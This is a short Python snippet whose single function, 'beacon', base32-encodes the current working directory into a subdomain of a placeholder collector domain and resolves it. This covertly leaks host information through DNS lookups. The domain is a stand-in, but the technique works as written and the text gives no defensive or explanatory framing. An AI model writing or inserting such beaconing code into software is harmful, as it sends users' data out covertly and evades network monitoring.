import base64
import os
import socket

DOMAIN = "collector.example.invalid"


def beacon():
    label = base64.b32encode(os.getcwd().encode()).decode().strip("=").lower()
    socket.gethostbyname(f"{label}.{DOMAIN}")
